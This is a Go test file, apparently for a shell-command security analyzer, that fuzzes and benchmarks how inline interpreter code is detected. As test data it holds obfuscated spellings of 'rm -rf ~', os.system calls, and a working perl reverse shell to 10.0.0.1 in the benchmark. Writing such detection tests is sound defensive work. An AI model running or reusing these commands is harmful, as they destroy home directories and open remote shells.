package shell

import (
	"fmt"
	"strings"
	"testing"
)

var fuzzLangs = []string{"python", "node", "perl", "ruby", "php", "lua", "awk", "r", "osascript", "jxa", "powershell"}

// FuzzInlineLiteral: whatever the code, the evaluator, the canonical
// rewrite and the analysis of inline code return without panicking; and
// every spelling of a printable text (escapes, character codes,
// concatenation, encodings) evaluates back to exactly that text.
func FuzzInlineLiteral(f *testing.F) {
	for _, s := range []string{"rm -rf ~", "'\\x72\\x6d'", "chr(114)+chr(109)", `"\162\155" . "x"`, "String.fromCharCode(114,109)", `"#{"r"}m"`,
		"f'{x!r:>{w}}'", "`${`${'a'}`}`", "'a' % ('b',)", "''.join(['a','b'])", `pack("H*", "726d")`, "[114,109].pack('c*')", `"\N{LATIN SMALL LETTER R}"`,
		"getattr(__import__('o'+'s'), 'system')", "require('child_'+'process')", "x = 'a'; x", "$f='sys'.'tem'; $f('x')", "(((((((((((", "'", `"\`, "\\",
		"q{a{b}c}", "%x{ls}", "\x00\x01", strings.Repeat("chr(", 50), strings.Repeat("'a'+", 200) + "'b'"} {
		f.Add(uint8(0), s)
	}
	f.Fuzz(func(t *testing.T, which uint8, s string) {
		if len(s) > 4096 {
			return
		}
		lang := fuzzLangs[int(which)%len(fuzzLangs)]
		// Any code: no panic, and an answer.
		e := newEvaluator(lang, s)
		v, end := e.arg(0)
		if end < 0 || end > len(s) || v.kind == valNone {
			t.Fatalf("%s: arg(%q) = %v, end %d", lang, s, v, end)
		}
		if c := canonical(lang, s); len(c) > 4*len(s)+1024 {
			t.Fatalf("%s: canonical(%q) grew to %d bytes", lang, s, len(c))
		}
		res := Analyze(langCommand(lang)+" "+shq(s), exampleOptions)
		for _, fd := range res.Findings {
			if fd.Rule == "" || fd.Message == "" {
				t.Fatalf("incomplete finding %+v", fd)
			}
		}
		// A printable text reads back through every spelling.
		text := strings.Map(func(r rune) rune {
			if r < 0x20 || r > 0x7e {
				return -1
			}
			return r
		}, s)
		if len(text) > 200 {
			text = text[:200]
		}
		if text == "" {
			return
		}
		for _, enc := range encodings[lang] {
			if strings.Contains(enc.name, "variable") && namesEval(lang, enc, text) {
				// Code that names eval or exec (even in a string) can set
				// any variable: the variable is unknown, on purpose.
				if got, ok := evalSpelling(lang, enc, text); ok {
					t.Fatalf("%s %s: %q is known (%q) though the code names eval", lang, enc.name, text, got.text())
				}
				continue
			}
			if got, ok := evalSpelling(lang, enc, text); !ok || got.text() != text {
				prelude, x := enc.enc(text)
				t.Fatalf("%s %s: %q evaluates to %q\n\t%s%s", lang, enc.name, text, got.text(), prelude, x)
			}
		}
	})
}

// langCommand is a command line that hands code to the language.
func langCommand(lang string) string {
	switch lang {
	case "python":
		return "python3 -c"
	case "node":
		return "node -e"
	case "perl":
		return "perl -e"
	case "ruby":
		return "ruby -e"
	case "php":
		return "php -r"
	case "lua":
		return "lua -e"
	case "r":
		return "Rscript -e"
	case "osascript":
		return "osascript -e"
	case "jxa":
		return "osascript -l JavaScript -e"
	case "powershell":
		return "pwsh -c"
	}
	return "awk"
}

// TestInlineBlowUp: code built to make the evaluator's values or work grow
// without bound (doubling variables, nested lists, deep nesting) ends with
// bounded, unknown values.
func TestInlineBlowUp(t *testing.T) {
	var doubling, lists, nested strings.Builder
	doubling.WriteString("a0 = 'xxxxxxxx'\n")
	lists.WriteString("l0 = ['" + strings.Repeat("y", 60000) + "']\n")
	for i := 1; i < 40; i++ {
		fmt.Fprintf(&doubling, "a%d = a%d + a%d\n", i, i-1, i-1)
		fmt.Fprintf(&lists, "l%d = [l%d, l%d, l%d, l%d]\n", i, i-1, i-1, i-1, i-1)
	}
	doubling.WriteString("import os; os.system(a39)")
	lists.WriteString("import subprocess; subprocess.run(l39)")
	nested.WriteString("import os; os.system(" + strings.Repeat("(", 5000) + "'ls'" + strings.Repeat(")", 5000) + ")")
	for _, code := range []string{doubling.String(), lists.String(), nested.String()} {
		res := Analyze("python3 -c "+shq(code), exampleOptions)
		if !hasRule(res, ruleInlineExec.ID) {
			t.Errorf("%.60s…: want %s (a value too large is unknown), found %v", code, ruleInlineExec.ID, ruleIDs(res))
		}
		for _, c := range res.Commands {
			if len(c.Text) > 2*maxValLen {
				t.Errorf("%.60s…: a command of %d bytes", code, len(c.Text))
			}
		}
	}
}

// BenchmarkInlineCode analyses interpreter command lines: a routine one,
// a literal command, a disguised one, a reverse shell.
func BenchmarkInlineCode(b *testing.B) {
	cmds := []string{
		`python3 -c "import json,sys; print(json.load(sys.stdin)['version'])"`,
		`python3 -c "import os; os.system('rm -rf ~')"`,
		`node -e "require('child_'+'process').execSync(String.fromCharCode(114,109)+' -rf ~')"`,
		`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1234,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Analyze(cmds[i%len(cmds)], exampleOptions)
	}
}

func namesEval(lang string, enc encoding, text string) bool {
	prelude, x := enc.enc(text)
	code := prelude + x
	return reDynamicScope.MatchString(code) || (lang == "perl" || lang == "php") && reSymbolicRef.MatchString(code)
}
